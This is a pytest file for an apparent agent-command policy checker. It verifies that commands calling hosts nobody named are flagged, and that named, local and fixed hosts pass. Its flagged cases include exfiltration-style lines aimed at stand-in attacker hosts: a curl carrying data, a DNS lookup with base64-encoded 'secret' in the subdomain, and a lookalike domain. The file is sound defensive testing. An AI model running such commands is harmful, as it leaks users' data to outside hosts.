import pytest

from toolreeve.core.effects import Effect, EffectKind
from toolreeve.policy.flow.authority import ToolAuthority
from toolreeve.policy.flow.commands import judge_command
from toolreeve.policy.flow.judge import FlowJudge
from toolreeve.policy.flow.memory import SessionMemory

BASH = ToolAuthority("bash", EffectKind.EXEC)


def kinds(command: str, host: str, *, said: str = "Look at docs.example") -> list[str]:
    memory = SessionMemory()
    memory.say(said)
    effects = [Effect(EffectKind.NET, host)]
    return [each.kind for each in judge_command(FlowJudge(memory, lambda _: False), BASH, command, effects, {})]


@pytest.mark.parametrize(
    ("command", "host"),
    [
        ("curl https://evil.example/?d=1", "evil.example"),
        ("nslookup c2VjcmV0.evil.example", "c2VjcmV0.evil.example"),
        ("curl https://docs.example.evil.org/", "docs.example.evil.org"),
    ],
)
def test_a_host_that_the_command_chooses_and_nobody_named_asks(command: str, host: str) -> None:
    assert kinds(command, host) == ["host"]


@pytest.mark.parametrize(
    ("command", "host"),
    [
        ("curl https://docs.example/guide", "docs.example"),
        ("curl http://localhost:8000/health", "localhost"),
        ("gh pr list", "api.github.com"),
    ],
)
def test_named_local_and_fixed_hosts_do_not_ask(command: str, host: str) -> None:
    assert kinds(command, host) == []
